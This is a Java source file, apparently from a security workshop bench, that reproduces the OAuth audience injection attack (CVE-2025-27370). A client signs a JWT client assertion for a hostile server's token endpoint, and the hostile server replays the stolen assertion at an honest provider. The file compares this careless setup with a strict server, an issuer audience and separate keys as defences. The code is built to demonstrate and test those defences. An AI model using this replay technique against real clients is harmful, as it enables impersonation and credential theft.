package com.tailspin.surveys.workshop.bench;

import com.tailspin.surveys.idp.client.Profile;
import com.tailspin.surveys.workshop.assertion.JudgedExchange;
import com.tailspin.surveys.workshop.assertion.MintedAssertion;
import com.tailspin.surveys.workshop.assertion.Minting;
import com.tailspin.surveys.workshop.assertion.TokenRequestSender;
import com.tailspin.surveys.workshop.assertion.WorkshopKey;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The audience injection attack (CVE-2025-27370): a client that takes the audience from the token endpoint in the
 * metadata signs assertions for another server. Runs with real servers: the client, a {@link HostileServer}, and
 * the provider.
 */
public final class Injection {

    private static final Pattern MEMBER = Pattern.compile("\"([a-z_]+)\"\\s*:\\s*\"([^\"]*)\"");
    private static final Duration PATIENCE = Duration.ofSeconds(15);

    private final Bench bench;

    Injection(Bench bench) {
        this.bench = bench;
    }

    /** What the client uses as {@code aud}. */
    public enum Audience {
        TOKEN_ENDPOINT("token_endpoint"),
        ISSUER("issuer");

        private final String member;

        Audience(String member) {
            this.member = member;
        }
    }

    /** With which key the client signs for the hostile server. */
    public enum Keys {
        /** The key that it also uses at the honest server. */
        SHARED,
        /** A key that only the hostile server knows. */
        SEPARATE
    }

    /**
     * One run of the attack.
     *
     * @param metadata the hostile server's metadata
     * @param claims that the client signed
     * @param pushed what the client sent to the hostile server, with the signature cut
     * @param replay the honest server's verdict
     */
    public record Run(
            Profile profile,
            String client,
            Audience audience,
            Keys keys,
            String metadata,
            String claims,
            String pushed,
            JudgedExchange replay) {
        public boolean stolen() {
            return replay.accepted();
        }
    }

    /** A careless client at a lenient server, then each defence on its own. */
    List<Run> all() {
        return List.of(
                run(Profile.LEGACY, Audience.TOKEN_ENDPOINT, Keys.SHARED),
                run(Profile.STRICT, Audience.TOKEN_ENDPOINT, Keys.SHARED),
                run(Profile.LEGACY, Audience.ISSUER, Keys.SHARED),
                run(Profile.LEGACY, Audience.TOKEN_ENDPOINT, Keys.SEPARATE));
    }

    Run run(Profile profile, Audience audience, Keys keys) {
        String client = BenchClients.id(profile);
        WorkshopKey key =
                switch (keys) {
                    case SHARED -> bench.clients().own(profile);
                    case SEPARATE -> bench.clients().unregistered();
                };
        HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(PATIENCE)
                .build();
        try (HostileServer hostile = HostileServer.besides(bench.honest(), bench.requests())) {
            String metadata = get(http, hostile.issuer() + "/.well-known/openid-configuration");
            Map<String, String> members = members(metadata);
            if (!hostile.issuer().equals(members.get("issuer"))) {
                // The one check that the specification of metadata requires; the hostile server passes it.
                throw new IllegalStateException("the metadata is not that of the requested issuer");
            }
            MintedAssertion minted = signed(client, members.getOrDefault(audience.member, ""), key);
            List<Map.Entry<String, String>> form = pushed(client, minted.compact());
            post(
                    http,
                    members.getOrDefault("pushed_authorization_request_endpoint", ""),
                    TokenRequestSender.encoded(form));
            return new Run(
                    profile,
                    client,
                    audience,
                    keys,
                    metadata,
                    minted.claims(),
                    lines(pushed(client, minted.shown())),
                    hostile.loot().orElseThrow());
        }
    }

    private static MintedAssertion signed(String client, String audience, WorkshopKey key) {
        long now = Instant.now().getEpochSecond();
        String header = """
                {
                  "alg": "PS256",
                  "typ": "client-authentication+jwt",
                  "x5t#S256": "%s"
                }""".formatted(key.names().sha256());
        String claims = """
                {
                  "iss": "%s",
                  "sub": "%s",
                  "aud": "%s",
                  "jti": "%s",
                  "iat": %d,
                  "nbf": %d,
                  "exp": %d
                }""".formatted(client, client, audience, UUID.randomUUID(), now, now, now + 60);
        byte[] signature = Minting.sign("PS256", key.privateKey(), Minting.signingInput(header, claims));
        return new MintedAssertion(header, claims, Minting.base64url(signature));
    }

    private static List<Map.Entry<String, String>> pushed(String client, String assertion) {
        return List.of(
                Map.entry("response_type", "code"),
                Map.entry("client_id", client),
                Map.entry("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"),
                Map.entry("client_assertion", assertion));
    }

    private static String lines(List<Map.Entry<String, String>> form) {
        return String.join(
                "\n",
                form.stream()
                        .map(field -> field.getKey() + "=" + field.getValue())
                        .toList());
    }

    private static Map<String, String> members(String json) {
        Map<String, String> members = new HashMap<>();
        Matcher matcher = MEMBER.matcher(json);
        while (matcher.find()) {
            members.put(matcher.group(1), matcher.group(2));
        }
        return members;
    }

    private static String get(HttpClient http, String address) {
        return send(http, HttpRequest.newBuilder(URI.create(address)).GET());
    }

    private static void post(HttpClient http, String address, String body) {
        send(
                http,
                HttpRequest.newBuilder(URI.create(address))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(HttpRequest.BodyPublishers.ofString(body)));
    }

    private static String send(HttpClient http, HttpRequest.Builder request) {
        try {
            return http.send(request.timeout(PATIENCE).build(), BodyHandlers.ofString())
                    .body();
        } catch (IOException e) {
            throw new UncheckedIOException("The hostile server does not respond.", e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted", e);
        }
    }
}
